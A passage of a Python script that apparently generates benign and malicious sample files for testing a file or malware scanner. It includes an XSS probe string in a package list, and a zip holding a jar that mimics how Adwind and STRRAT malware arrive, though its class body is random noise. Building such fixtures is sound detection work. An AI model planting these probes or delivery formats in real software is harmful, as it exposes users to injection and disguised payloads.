api_doc.append("</nav><pre><code>const bytes = Uint8Array.from(atob(text), (c) => c.charCodeAt(0));\n"
               "const blob = new Blob([bytes]);\nconst a = document.createElement('a');\n"
               "a.href = URL.createObjectURL(blob);\na.click();\n"
               "</code></pre><p>Set the link's download attribute to name the file.</p>\n"
               "<p>Commits: %s</p>\n</body></html>\n" %
               " ".join("%040x" % rng.getrandbits(160) for _ in range(60)))
put(BEN, "api-docs.html", "".join(api_doc))
put(BEN, "page-with-icons.html", "<!DOCTYPE html>\n<html><head><title>Docs</title></head><body>\n"
    '<svg width="16" height="16"><path d="M0 0h16v16H0z"/></svg>\n'
    "<script>document.title = 'Docs';</script>\n<p>Hello.</p></body></html>\n")
put(BEN, "orcus-like.so", elf_bytes() + b"\x00ddeService\x00ddeTopic\x00ddeItem\x00" + noise(200))

put(BEN, "syntax-html.vim", "\" Vim syntax file\n\" Language: HTML\n" +
    "syn keyword htmlTagName contained svg script style\nsyn region javaScript start=+<script\\_[^>]*>+ end=+</script\\_[^>]*>+\n" +
    "syn region htmlSvg start=+<svg\\b+ end=+</svg>+ contains=htmlTag\n" +
    "syn match htmlEvent contained +\\<on\\a\\+\\s*=[\\t ]*'+ nextgroup=htmlEventSQ\n")
put(BEN, "mime-magic.db", b"MIME-Magic\x00\n[50:image/svg+xml]\n>0=\x00\x04<svg~256\n" +
    b"[50:text/html]\n>0=\x00\x07<SCRIPT~256\n>0=\x00\x0e<!DOCTYPE HTML~256\n" + noise(300))
tsv = ["name\tversion\tsummary\n"]
tsv += ["Ak_%032x\t1.0\tGenerated package\n" % rng.getrandbits(128) for _ in range(100)]
tsv += ["pkg-%d\t0.%d\tA helper for things number %d\n" % (i, i % 9, i) for i in range(24000)]
tsv += ["blob-tools\t1.0\tBlob and createObjectURL helpers for the download button\n",
        "atob-ng\t2.0\tatob for Node\n", "xss-test\t0.1\t<script>alert(1)</script>\n"]
put(BEN, "packages.tsv", "".join(tsv))
put(BEN, "openssl-cmp.1", '.TH OPENSSL-CMP 1SSL\n.SH OPTIONS\n.IP "\\fB\\-cmd\\fR \\fIir|cr|kur|p10cr|rr|genm\\fR" 4\n'
    '.IX Item "-cmd ir|cr|kur|p10cr|rr|genm"\nCMP command to execute.\n')
put(BEN, "libofficefilter.so", elf_bytes() + b"\x00application/vnd.ms-office.vbaProject\x00" +
    b"http://schemas.microsoft.com/office/2006/relationships/vbaProject\x00" + noise(200))
put(BEN, "vbaapi.rdb", b"UNOIDL\xff\x00" + noise(100) + b"\x07DDEAuto\x00\x08AutoOpen\x00" + noise(100))
# A Java program (Adwind and STRRAT arrive so) inside a zip: a double click runs it.
put(MAL, "order-details.zip", zip_bytes([("Order_Details.jar", zip_bytes([
    ("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: a.Main\r\n\r\n"),
    ("a/Main.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + noise(300))]))]))
# Application packages: their scripts and launchers are the application's parts.
put(BEN, "tool-1.0-py3-none-any.whl", zip_bytes([("tool/__init__.py", "VERSION = '1.0'\n"),
                                                 ("tool/scripts/run.cmd", "@echo off\r\npython -m tool %*\r\n"),
                                                 ("tool-1.0.dist-info/METADATA", "Name: tool\nVersion: 1.0\n")]))
put(BEN, "addon.xpi", zip_bytes([("manifest.json", '{"manifest_version": 2, "name": "addon"}\n'),
                                 ("background.js", "browser.runtime.onInstalled.addListener(() => {});\n")]))

def ar_archive(members):
    """A GNU ar archive (a static library): a symbol table "/", long names "//", members."""
    def header(name, size):
        return b"%-16s%-12d%-6d%-6d%-8s%-10d`\n" % (name, 0, 0, 0, b"644", size)
    names = b"".join(n + b"/\n" for n, _ in members)
    symtab = struct.pack(">I", 0)
    out = b"!<arch>\n" + header(b"/", len(symtab)) + symtab
    out += header(b"//", len(names)) + names + (b"\n" if len(names) % 2 else b"")
    off = 0
    for n, d in members:
        out += header(b"/%d" % off, len(d)) + d + (b"\n" if len(d) % 2 else b"")
        off += len(n) + 2
    return out


put(BEN, "libexample.a", ar_archive([(b"a_rather_long_object_name.o", elf_bytes()),
                                     (b"another_long_object_name.o", elf_bytes())]))
put(BEN, "tool", elf_bytes(), 0o755)
iso_dir2 = os.path.join(WORK, "isodocs")
os.makedirs(iso_dir2, exist_ok=True)
put(iso_dir2, "manual.txt", "read me\n")
subprocess.run(["genisoimage", "-quiet", "-J", "-R", "-o", os.path.join(BEN, "manuals.iso"), iso_dir2], check=True)
shutil.rmtree(WORK)
print("%d malicious, %d benign" % (len(os.listdir(MAL)), len(os.listdir(BEN))))
